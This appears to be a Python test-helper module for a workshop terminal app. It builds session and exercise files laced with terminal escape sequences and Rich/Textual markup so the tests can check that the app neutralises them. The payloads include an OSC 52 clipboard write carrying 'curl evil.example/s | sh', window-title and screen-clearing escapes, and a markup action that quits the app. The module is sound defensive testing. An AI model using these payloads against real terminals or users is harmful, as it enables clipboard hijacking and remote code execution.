"""Hostile files made by the tests: a session whose every text carries terminal escapes.

Facilitators pass session files to each other; a file is data, never a command. These
helpers write the demo seminar with escape sequences in every text (title, organisation,
facilitator, group and participant names, each exercise's texts, notes and answers), for
the CLI, the exports and the app to be fed.
"""

from __future__ import annotations

import base64
import tomllib
from pathlib import Path
from typing import Any

from workshop_tui.core.storage.locations import builtin_exercises_dir, builtin_sessions_dir
from workshop_tui.core.storage.sessions import DEMO_FILE, load_session, session_to_dict
from workshop_tui.core.storage.tomlio import dumps

CLIPBOARD = base64.b64encode(b"curl evil.example/s | sh\n").decode()
PAYLOAD = (
    f"\x1b]52;c;{CLIPBOARD}\x07"  # OSC 52: set the clipboard
    "\x1b]0;PWNED\x07"  # OSC 0: rename the window
    "A\x1b[2JB"  # ED: clear the screen
    "C\x9b2JD"  # the same as an 8-bit CSI
    "\x1bPPWNDCS\x1b\\"  # a device control string
    "\u202eE\x07\x00"  # a bidi override, a bell and a NUL
)
"""What each text gets: the sequences issue 12 found reaching the terminal, and a few more."""
LEAKS = (
    b"]52;",
    CLIPBOARD.encode(),
    b"PWNED",
    b"A\x1b[2JB",
    b"\xc2\x9b",
    b"PWNDCS",
    b"\xe2\x80\xae",
    b"\x00",
)
"""Bytes that must never appear in what the app writes to the terminal."""

TEXT_KEYS = frozenset(
    {"title", "organisation", "facilitator", "name", "da", "en", "note", "text", "owner", "due", "lines"}
)
"""The keys of a session file whose values are free text (ids and codes are not)."""
TEXT_MAPS = frozenset({"notes", "closing", "challenge"})
"""Tables whose values are texts keyed by ids."""


def poisoned(value: Any, key: str = "", payload: str = PAYLOAD) -> Any:
    """``value`` (a session file's table) with ``payload`` appended to every free text."""
    if isinstance(value, dict):
        if key in TEXT_MAPS and all(isinstance(v, str) for v in value.values()):
            return {k: v + payload for k, v in value.items()}
        return {k: poisoned(v, k, payload) for k, v in value.items()}
    if isinstance(value, list):
        return [poisoned(v, key, payload) for v in value]
    if isinstance(value, str) and key in TEXT_KEYS:
        return value + payload
    return value


def hostile_session(folder: Path, name: str = "hostile.toml", payload: str = PAYLOAD) -> Path:
    """The demo seminar with ``payload`` in every text, written to ``folder/name``."""
    data = poisoned(session_to_dict(load_session(builtin_sessions_dir() / DEMO_FILE)), payload=payload)
    data["id"] = Path(name).stem
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(dumps(data), encoding="utf-8")
    return path


def session_with(folder: Path, name: str, **top: Any) -> Path:
    """The demo seminar with some top-level keys replaced (``id``, ``date`` …), as a file."""
    data = session_to_dict(load_session(builtin_sessions_dir() / DEMO_FILE))
    data.update(top)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(dumps(data), encoding="utf-8")
    return path


MARKUP = (
    " [/] [b]unclosed [@click=app.quit]x[/] [link=https://evil.example]y[/link] [md](https://evil.example/md)"
    " \x1b[31mred\x07 " + "W" * 300 + " 漢字😀 שלום"
)
"""Text that Textual or Rich would read as markup, and the rest of what a mailed file may hold:
a closing tag with nothing open (a MarkupError), an unclosed tag, an action and a link, an
escape sequence and a bell, a 300-character word, wide, emoji and right-to-left characters
(and a Markdown link, for the F1 help, which is Markdown)."""
MARKUP_SHOWN = (
    " [/] [b]unclosed [@click=app.quit]x[/] [link=https://evil.example]y[/link]"
    " [md](https://evil.example/md) red "
)
"""The start of ``MARKUP`` as it must be shown: as written, the control characters stripped."""
STRUCTURE = frozenset(
    {
        "id",
        "kind",
        "polarity",
        "dimension",
        "letter",
        "rows",
        "columns",
        "mode",
        "date",
        "created",
        "updated",
        "language",
        "agenda",
        "exercise",
        "group",
        "challenge_from",
        "due",
        "schema_version",
        # a table's column and its chosen options are checked against the exercise (not free text)
        "label",
        "importance",
        "activity",
        "attitude",
        "x",  # a zone's side of each axis
        "y",
        "specific",  # the SMART goal's choices
        "measurable",
        "accepted",
        "realistic",
        "timed",
    }
)
"""Keys whose values are ids, dates, codes or choices: the loader refuses other text there."""


def poisoned_everywhere(value: Any, key: str = "", payload: str = MARKUP) -> Any:
    """``value`` with ``payload`` appended to every string but those under ``STRUCTURE`` keys.

    Wider than ``poisoned``: answers keyed by group and field, exercise texts, scale labels,
    sources and dimension texts too (every string the app may show)."""
    if isinstance(value, dict):
        return {k: poisoned_everywhere(v, k, payload) for k, v in value.items()}
    if isinstance(value, list):
        return [poisoned_everywhere(v, key, payload) for v in value]
    if isinstance(value, str) and key.rpartition(".")[2] not in STRUCTURE:
        return value + payload
    return value


def markup_session(
    folder: Path, name: str = "markup.toml", payload: str = MARKUP, session_id: str = "markup"
) -> Path:
    """The demo seminar with ``payload`` in every text it can hold, written to ``folder/name``."""
    data = poisoned_everywhere(
        session_to_dict(load_session(builtin_sessions_dir() / DEMO_FILE)), payload=payload
    )
    data["id"] = session_id
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(dumps(data), encoding="utf-8")
    return path


def markup_exercise(folder: Path, builtin: str, payload: str = MARKUP) -> str:
    """A built-in exercise with ``payload`` in every text, as a user's exercise file in ``folder``.

    Its id is ``hostile-<builtin>`` (returned), so it stands beside the built-in one."""
    data = tomllib.loads((builtin_exercises_dir() / f"{builtin}.toml").read_text(encoding="utf-8"))
    data = poisoned_everywhere(data, payload=payload)
    data["id"] = f"hostile-{builtin}"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"hostile-{builtin}.toml").write_text(dumps(data), encoding="utf-8")
    return str(data["id"])
